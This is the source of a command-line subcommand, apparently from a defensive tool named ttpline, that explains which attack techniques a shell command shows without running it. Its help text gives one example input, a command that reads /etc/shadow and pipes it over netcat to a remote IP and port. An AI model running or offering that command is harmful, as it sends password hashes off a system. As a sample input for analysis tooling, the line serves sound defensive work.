"""``ttpline explain``: one command taken apart, never run."""

import sys
from typing import Annotated

import typer

from ttpline.cli import _options as options
from ttpline.cli._models import load
from ttpline.errors import UsageError

EPILOG = (
    "Examples:  ttpline explain 'cat /etc/shadow | nc 192.0.2.1 4444'   ·   "
    "tail -n 1 cmds.txt | ttpline explain -   ·   ttpline explain --json -- '-la'"
)

MOST_BYTES = 1 << 20
"""Of a command from standard input: more than any system starts."""


def command(
    command_line: Annotated[
        list[str], typer.Argument(metavar="COMMAND", help="One command, quoted; - reads it from standard input.")
    ],
    model: options.Model = "builtin",
    top: options.Top = 3,
    as_json: Annotated[
        bool, typer.Option("--json", help="One JSON object: the same, with every part's weight.")
    ] = False,
    mask: options.Mask = False,
) -> int:
    """Say what a command means and why it gets its answer: layers undone, its parts and what is known of each, the
    evidence for each technique, the runner-up, what would change the answer. The command is never run."""
    if len(command_line) > 1:
        raise UsageError("the command came in several pieces", remedy="put it in single quotes, as one argument")
    text = _from_stdin() if command_line[0] == "-" else command_line[0]
    from ttpline.domain.raw_text import decode, encode
    from ttpline.explain.explain import explain

    explanation = explain(decode(encode(text)), load(model), top_k=top)
    if mask:
        from ttpline.explain.mask import masked_explanation

        explanation = masked_explanation(explanation)
    if as_json:
        import msgspec

        from ttpline.sinks._json import escaped

        sys.stdout.buffer.write(escaped(msgspec.json.encode(explanation.to_dict())) + b"\n")
        return 0
    from ttpline.explain.render import show
    from ttpline.sinks._console import PlainConsole

    show(explanation, PlainConsole())
    return 0


def _from_stdin() -> str:
    if sys.stdin.isatty():
        print("ttpline: type the command, then Ctrl-D", file=sys.stderr)
    raw = sys.stdin.buffer.read(MOST_BYTES + 1)
    if len(raw) > MOST_BYTES:
        raise UsageError(f"the command is longer than {MOST_BYTES:,} bytes", where="stdin")
    return raw.decode(errors="surrogateescape").rstrip("\r\n")
